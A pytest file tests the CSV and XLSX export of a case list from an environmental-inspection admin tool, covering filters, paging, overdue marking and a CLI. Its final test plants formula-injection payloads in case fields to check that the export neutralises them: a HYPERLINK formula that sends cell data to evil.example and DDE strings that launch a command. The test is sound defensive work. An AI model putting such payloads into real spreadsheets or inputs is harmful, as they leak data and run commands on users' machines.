"""Exporting the case list: every page, the list's filters, Chinese headers and names."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from admin.lists.exporting import HEADER, export_cases, export_rows
from admin.lists.importing import apply, preview, read_import_file
from admin.lists.sheets import read_table
from core.domain.orgunits import OrgTree
from core.domain.values import Category, Origin, Place
from core.service.application import Ducha
from core.settings import Settings
from projections.cases.queries import get_case_row_by_reference
from stores.db import make_engine
from tests.admin.case_files import GOOD_ZH, ReadSide, write_file
from tests.helpers import OFFICE
from wsgi import create_app

TODAY = date(2026, 11, 2)  # the `clock` fixture's day
TREE = OrgTree.default()


@pytest.fixture
def read(ducha: Ducha, settings: Settings) -> Iterator[ReadSide]:
    engine = make_engine(settings.sqlalchemy_url)
    yield ReadSide(ducha, engine)
    engine.dispose()


@pytest.fixture
def imported(tmp_path: Path, ducha: Ducha, read: ReadSide) -> dict[str, str]:
    """The good list imported and projected; external number -> reference."""
    rows = read_import_file(write_file(tmp_path / "list.csv", GOOD_ZH))
    report = apply(preview(rows, {}, TREE, TODAY), ducha, OFFICE)
    assert len(report.created) == 5 and not report.failed
    read.sync()
    return {c.number: c.reference for c in report.created}


def expected(read: ReadSide, refs: dict[str, str]) -> dict[str, list[str]]:
    """The exported row of each case, by external number, as of TODAY."""
    fk, sj = refs["FK-01"], refs["SJ-07"]
    rows = [
        [fk, "FK-01", "中央督察反馈问题", "东湖区生活污水直排", "湖滨街道雨污合流，污水直排河道。",
         "东湖区", "", "", "大气、水", "东湖区", "已交办", "2027-06-30", "否", ""],
        [refs["FK-01-1"], "FK-01-1", "整改措施", "完成雨污分流改造", "湖滨街道片区雨污分流。",
         "东湖区", "", "", "大气、水", "市水务局", "已交办", "2027-03-31", "否", fk],
        [refs["FK-01-2"], "FK-01-2", "整改措施", "开展河道清淤", "清淤并生态修复。",
         "东湖区", "", "", "大气、水", "湖滨街道", "已交办", "2027-04-30", "否", fk],
        [sj, "SJ-07", "省级督察反馈问题", "白石县矿山修复滞后", "废弃矿山未完成生态修复。",
         "白石县", "大山乡", "", "生态、土壤", "", "已受理", "", "否", ""],
        [refs["SJ-07-1"], "SJ-07-1", "整改措施", "编制修复方案", "编制废弃矿山生态修复方案。",
         "白石县", "大山乡", "", "生态、土壤", "白石县生态环境分局", "已交办", "2027-05-31", "否",
         sj],
    ]  # fmt: skip
    return {row[1]: [*row, reported_on(read, row[0])] for row in rows}


def reported_on(read: ReadSide, reference: str) -> str:
    """The day the case was stored (event time, not the test clock), in Beijing time."""
    row = get_case_row_by_reference(read.engine, reference)
    assert row is not None
    return row.reported_at.astimezone(ZoneInfo("Asia/Shanghai")).date().isoformat()


def by_number(rows: list[list[Any]]) -> dict[str, list[str]]:
    return {str(row[1]): [str(v) for v in row] for row in rows}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_round_trips_every_case(
    fmt: str, tmp_path: Path, read: ReadSide, imported: dict[str, str]
) -> None:
    target = tmp_path / f"cases.{fmt}"
    assert export_cases(read.engine, target, TREE, TODAY) == 5
    table = read_table(target)
    assert table.header == HEADER
    assert by_number([cells for _, cells in table.rows]) == expected(read, imported)


def test_the_csv_export_starts_with_a_bom_for_excel(
    tmp_path: Path, read: ReadSide, imported: dict[str, str]
) -> None:
    target = tmp_path / "cases.csv"
    export_cases(read.engine, target, TREE, TODAY)
    data = target.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf" + "编号,外部编号".encode())


def test_overdue_is_judged_on_the_day_of_the_export(
    read: ReadSide, imported: dict[str, str]
) -> None:
    later = date(2027, 4, 15)
    rows = by_number(export_rows(read.engine, TREE, later))
    assert {n for n, row in rows.items() if row[12] == "是"} == {"FK-01-1"}
    late = export_rows(read.engine, TREE, later, {"overdue": True})
    assert [row[1] for row in late] == ["FK-01-1"]


@pytest.mark.parametrize(
    ("filters", "numbers"),
    [
        ({}, {"FK-01", "FK-01-1", "FK-01-2", "SJ-07", "SJ-07-1"}),
        ({"district_id": "jc.baishi"}, {"SJ-07", "SJ-07-1"}),
        ({"township_id": "jc.baishi.dashan"}, {"SJ-07", "SJ-07-1"}),
        ({"status": "accepted"}, {"SJ-07"}),
        ({"status": {"accepted", "transferred"}}, {"FK-01", "FK-01-1", "FK-01-2", "SJ-07",
                                                   "SJ-07-1"}),
        ({"category": "soil"}, {"SJ-07", "SJ-07-1"}),
        ({"origin": "measure"}, {"FK-01-1", "FK-01-2", "SJ-07-1"}),
        ({"responsible_unit": "jc.swj"}, {"FK-01-1"}),
        ({"text": "清淤"}, {"FK-01-2"}),
        ({"text": "矿山修复"}, {"SJ-07"}),
        ({"district_id": "jc.donghu", "origin": "measure", "text": "雨污"}, {"FK-01-1"}),
        ({"within_units": {"jc.donghu"}}, {"FK-01", "FK-01-1", "FK-01-2"}),
    ],
)  # fmt: skip
def test_the_export_respects_the_list_filters(
    filters: dict[str, Any], numbers: set[str], read: ReadSide, imported: dict[str, str]
) -> None:
    rows = export_rows(read.engine, TREE, TODAY, filters)
    assert {row[1] for row in rows} == numbers
    assert by_number(rows) == {n: r for n, r in expected(read, imported).items() if n in numbers}


def test_every_page_is_exported_in_the_list_order(read: ReadSide, imported: dict[str, str]) -> None:
    whole = export_rows(read.engine, TREE, TODAY)
    assert export_rows(read.engine, TREE, TODAY, page_size=2) == whole
    assert len(whole) == 5


def test_an_unknown_filter_is_refused(read: ReadSide) -> None:
    with pytest.raises(ValueError, match="unknown filters: colour"):
        export_rows(read.engine, TREE, TODAY, {"colour": "green"})


def test_the_cli_exports_with_filters(
    tmp_path: Path, environ: dict[str, str], imported: dict[str, str]
) -> None:
    web = create_app(environ)
    runner = web.test_cli_runner()
    try:
        target = tmp_path / "baishi.xlsx"
        args = ["cases", "export", str(target), "--district", "白石县", "--category", "土壤"]
        done = runner.invoke(args=args)
        assert done.exit_code == 0, done.output
        assert "exported 2 cases" in done.output
        exported = {cells[1] for _, cells in read_table(target).rows}
        assert exported == {"SJ-07", "SJ-07-1"}
        accepted = tmp_path / "accepted.csv"
        result = runner.invoke(args=["cases", "export", str(accepted), "--status", "accepted"])
        assert result.exit_code == 0, result.output
        assert [cells[1] for _, cells in read_table(accepted).rows] == ["SJ-07"]
        found = runner.invoke(args=["cases", "export", str(accepted), "--q", "清淤"])
        assert "exported 1 cases" in found.output
        wrong = runner.invoke(args=["cases", "export", str(tmp_path / "x.pdf")])
        assert wrong.exit_code == 2 and "use a .csv or .xlsx file" in wrong.output
        nowhere = runner.invoke(args=["cases", "export", str(accepted), "--district", "火星区"])
        assert nowhere.exit_code == 2 and "unknown unit" in nowhere.output
    finally:
        web.extensions["ducha"].close()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_text_can_start_a_formula(
    fmt: str, tmp_path: Path, ducha: Ducha, read: ReadSide
) -> None:
    planted = {
        "title": '=HYPERLINK("https://evil.example/?"&A1,"点此查看")',
        "description": "+1+cmd|' /C calc'!A0",
        "address": "@SUM(1+1)*cmd|' /C calc'!A0",
    }
    ducha.report(
        OFFICE,
        origin=Origin.SELF_FOUND,
        title=planted["title"],
        description=planted["description"],
        categories=[Category.WATER],
        place=Place("jc.donghu", None, planted["address"]),
    )
    read.sync()
    target = tmp_path / f"cases.{fmt}"
    export_cases(read.engine, target, TREE, TODAY)
    if fmt == "xlsx":
        sheet = load_workbook(target).active
        assert sheet is not None
        cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
        assert not [c.value for c in cells if c.data_type == "f"]
        texts = [str(c.value) for c in cells if c.value is not None]
    else:
        texts = next(iter(read_table(target).rows))[1]
    for name, value in planted.items():
        assert "'" + value in texts, name
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
